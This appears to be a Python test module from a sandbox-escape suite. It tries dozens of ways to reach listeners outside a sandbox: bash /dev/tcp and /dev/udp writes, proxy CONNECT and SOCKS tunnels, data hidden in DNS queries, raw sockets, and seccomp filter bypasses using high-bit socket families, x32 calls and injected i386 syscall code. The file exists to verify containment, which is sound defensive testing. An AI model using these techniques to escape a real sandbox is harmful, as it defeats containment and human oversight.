"""Reach listeners outside: TCP, UDP, Unix sockets and stranger families."""

from __future__ import annotations

import array
import contextlib
import ctypes
import mmap
import os
import socket
import struct
import subprocess

from tests.helpers.escape.attempts import Arena, attempt, connect, syscall

MPTCP, SCTP, SMC, VSOCK, ALG, XDP, TIPC, BLUETOOTH = 262, 132, 43, 40, 38, 44, 30, 31
SOCKET, X32 = 41, 0x40000000
MSG_FASTOPEN = 0x20000000


def tcp(arena: Arena, key: str) -> None:
    address = arena.config["tcp"][key]
    family = socket.AF_INET6 if ":" in address[0] else socket.AF_INET
    arena.call_out(connect(family, tuple(address)))


@attempt()
def tcp_loopback(arena: Arena) -> None:
    tcp(arena, "v4")


@attempt(needs="ipv6")
def tcp_loopback_v6(arena: Arena) -> None:
    tcp(arena, "v6")


@attempt(needs="interface")
def tcp_own_interface(arena: Arena) -> None:
    tcp(arena, "interface")


@attempt(needs="ipv6")
def tcp_mapped(arena: Arena) -> None:
    arena.call_out(connect(socket.AF_INET6, ("::ffff:127.0.0.1", arena.config["tcp"]["v4"][1])))


@attempt()
def tcp_unspecified(arena: Arena) -> None:
    arena.call_out(connect(socket.AF_INET, ("0.0.0.0", arena.config["tcp"]["v4"][1])))


@attempt()
def tcp_at_proxy_port(arena: Arena) -> None:
    """Rules for ports cannot tell this server from the proxy."""
    tcp(arena, "proxy_port")


@attempt(needs="fast open")
def tcp_fast_open(arena: Arena) -> None:
    client = socket.socket()
    client.sendto(arena.name.encode() + b"\n", MSG_FASTOPEN, tuple(arena.config["tcp"]["v4"]))


@attempt(needs="mptcp")
def tcp_multipath(arena: Arena) -> None:
    arena.call_out(connect(socket.AF_INET, tuple(arena.config["tcp"]["v4"]), protocol=MPTCP))


@attempt(needs="sctp")
def sctp_stream(arena: Arena) -> None:
    socket.socket(socket.AF_INET, socket.SOCK_STREAM, SCTP).close()
    arena.escaped()


@attempt(needs="smc")
def smc_stream(arena: Arena) -> None:
    arena.call_out(connect(SMC, tuple(arena.config["tcp"]["v4"])))


@attempt()
def tcp_by_shell(arena: Arena) -> None:
    host, port = arena.config["tcp"]["v4"]
    subprocess.run(["/bin/bash", "-c", f"echo {arena.name} > /dev/tcp/{host}/{port}"], check=True, timeout=3)


@attempt()
def udp_by_shell(arena: Arena) -> None:
    host, port = arena.config["udp"]["v4"]
    subprocess.run(["/bin/bash", "-c", f"echo {arena.name} > /dev/udp/{host}/{port}"], check=True, timeout=3)


@attempt()
def tcp_without_proxy(arena: Arena) -> None:
    from urllib import request

    host, port = arena.config["tcp"]["v4"]
    with request.build_opener(request.ProxyHandler({})).open(f"http://{host}:{port}/{arena.name}", timeout=2):
        pass


@attempt()
def tcp_through_proxy(arena: Arena) -> None:
    """The proxy must refuse a host that is not allowed, whatever protocol is spoken to it."""
    host, port = arena.config["tcp"]["v4"]
    proxy = os.environ.get("HTTP_PROXY", "http://127.0.0.1:3128").removeprefix("http://").partition(":")
    try:
        client = connect(socket.AF_INET, (proxy[0], int(proxy[2])))
    except OSError:
        client = connect(socket.AF_INET, (host, port))  # no proxy: the control reaches it directly
    client.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\n\r\n".encode())
    if "HTTP_PROXY" in os.environ:
        client.recv(1000)
    arena.call_out(client)


@attempt()
def socks_through_proxy(arena: Arena) -> None:
    host, port = arena.config["tcp"]["v4"]
    try:
        client = connect(socket.AF_INET, ("127.0.0.1", 3128))
        client.sendall(b"\5\1\0\5\1\0\1" + socket.inet_aton(host) + struct.pack("!H", port))
        client.recv(12)
    except OSError:
        client = connect(socket.AF_INET, (host, port))
    arena.call_out(client)


def udp(arena: Arena, key: str, payload: bytes) -> None:
    address = arena.config["udp"][key]
    family = socket.AF_INET6 if ":" in address[0] else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as client:
        client.sendto(payload, tuple(address))


@attempt()
def udp_loopback(arena: Arena) -> None:
    udp(arena, "v4", arena.name.encode() + b"\n")


@attempt(needs="ipv6")
def udp_loopback_v6(arena: Arena) -> None:
    udp(arena, "v6", arena.name.encode() + b"\n")


@attempt(needs="interface")
def udp_own_interface(arena: Arena) -> None:
    udp(arena, "interface", arena.name.encode() + b"\n")


@attempt()
def dns_question(arena: Arena) -> None:
    """Data in a name, to a name server on this machine."""
    name = arena.name.encode()
    question = struct.pack("!HHHHHH", 1, 256, 1, 0, 0, 0) + bytes([len(name)]) + name + b"\4evil\0\0\1\0\1"
    udp(arena, "v4", question)


@attempt()
def udp_connected_and_many(arena: Arena) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.connect(tuple(arena.config["udp"]["v4"]))
        client.sendmsg([arena.name.encode(), b"\n"])


@attempt()
def udp_lite(arena: Arena) -> None:
    """A listener for UDP-Lite is not needed: the socket is enough to send to a machine that has one."""
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136).sendto(b"x", tuple(arena.config["udp"]["v4"]))
    if arena.config["udp"]["reachable"]:
        arena.escaped()


@attempt(needs="root")
def raw_packet(arena: Arena) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP) as client:
        port = arena.config["udp"]["v4"][1]
        payload = arena.name.encode() + b"\n"
        client.sendto(struct.pack("!HHHH", 9, port, 8 + len(payload), 0) + payload, ("127.0.0.1", 0))


@attempt(needs="root")
def packet_socket(arena: Arena) -> None:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as client:
        client.bind(("lo", 0))
        arena.escaped()


@attempt(needs="root")
def ping_socket(arena: Arena) -> None:
    """An answer from the machine's own address on its interface."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as client:
        client.settimeout(1)
        client.sendto(b"\x08\0\xf7\xff\0\0\0\0", (arena.config["interface"], 0))
        arena.escaped(client.recv(100))


# Unix sockets: the listener is a file that commands can see, or an abstract name.


@attempt()
def unix_stream(arena: Arena) -> None:
    arena.call_out(connect(socket.AF_UNIX, arena.config["unix"]["stream"]))


@attempt()
def unix_datagram(arena: Arena) -> None:
    client = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    client.sendto(arena.name.encode() + b"\n", arena.config["unix"]["datagram"])


@attempt()
def unix_datagram_by_pair(arena: Arena) -> None:
    """A pair needs no call of `socket`, and each end can send to any path."""
    ours, _theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    ours.sendto(arena.name.encode() + b"\n", arena.config["unix"]["datagram"])


@attempt()
def unix_stream_after_pair(arena: Arena) -> None:
    """An end of a pair is connected already; it must not become a way to another listener."""
    ours, _theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    with contextlib.suppress(OSError):
        ours.connect(arena.config["unix"]["stream"])
        arena.call_out(ours)
    arena.call_out(connect(socket.AF_UNIX, arena.config["unix"]["stream"]))


@attempt()
def unix_abstract_stream(arena: Arena) -> None:
    arena.call_out(connect(socket.AF_UNIX, "\0" + arena.config["unix"]["abstract"]))


@attempt()
def unix_abstract_by_pair(arena: Arena) -> None:
    ours, _theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    ours.sendto(arena.name.encode() + b"\n", "\0" + arena.config["unix"]["abstract_datagram"])


@attempt()
def unix_in_workspace(arena: Arena) -> None:
    arena.call_out(connect(socket.AF_UNIX, arena.config["unix"]["workspace"]))


@attempt()
def unix_through_proc_root(arena: Arena) -> None:
    arena.call_out(connect(socket.AF_UNIX, "/proc/self/root" + arena.config["unix"]["stream"]))


@attempt()
def unix_family_with_high_bits(arena: Arena) -> None:
    """The kernel reads 32 bits of the family; a filter that compares 64 is passed."""
    number = syscall(SOCKET, 0x1_0000_0001, socket.SOCK_STREAM, 0)
    client = socket.socket(fileno=number)
    client.connect(arena.config["unix"]["stream"])
    arena.call_out(client)


@attempt(needs="x32")
def unix_by_x32_call(arena: Arena) -> None:
    number = syscall(SOCKET | X32, socket.AF_UNIX, socket.SOCK_STREAM, 0)
    client = socket.socket(fileno=number)
    client.connect(arena.config["unix"]["stream"])
    arena.call_out(client)


@attempt(needs="i386")
def unix_by_32_bit_call(arena: Arena) -> None:
    """`int 0x80` with the numbers of i386: 359 is socket."""
    code = bytes.fromhex("53 b8 67010000 bb 01000000 b9 01000000 31d2 cd80 5b c3".replace(" ", ""))
    memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    number = ctypes.CFUNCTYPE(ctypes.c_int)(address)()
    if number < 0:
        raise OSError(-number, os.strerror(-number))
    client = socket.socket(fileno=number)
    client.connect(arena.config["unix"]["stream"])
    arena.call_out(client)


@attempt()
def listen_for_host(arena: Arena) -> None:
    """A server in the sandbox that programs outside could connect to."""
    server = socket.create_server(("127.0.0.1", arena.config["free_port"]))
    server.settimeout(1)
    try:
        server.accept()
        arena.escaped("somebody came")
    except TimeoutError:
        pass


@attempt(needs="vsock")
def vsock_stream(arena: Arena) -> None:
    socket.socket(VSOCK, socket.SOCK_STREAM).close()
    arena.escaped()


@attempt(needs="alg")
def kernel_crypto_socket(arena: Arena) -> None:
    socket.socket(ALG, socket.SOCK_SEQPACKET).close()
    arena.escaped()


@attempt()
def netlink_events(arena: Arena) -> None:
    """Kernel events (15), audit (9) and connector (11): not the list of interfaces."""
    for protocol in (15, 9, 11, 4, 12):
        try:
            socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol).close()
        except OSError:
            continue
        arena.escaped(protocol)


@attempt(needs="xdp")
def express_data_path(arena: Arena) -> None:
    socket.socket(XDP, socket.SOCK_RAW).close()
    arena.escaped()


@attempt(needs="bluetooth")
def bluetooth_socket(arena: Arena) -> None:
    socket.socket(BLUETOOTH, socket.SOCK_RAW, 1).close()
    arena.escaped()


@attempt()
def pass_descriptor_out(arena: Arena) -> None:
    """Hand a descriptor of ours to a listener outside, which could do anything with it."""
    client = connect(socket.AF_UNIX, arena.config["unix"]["stream"])
    client.sendmsg(
        [arena.name.encode() + b"\n"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0]).tobytes())]
    )
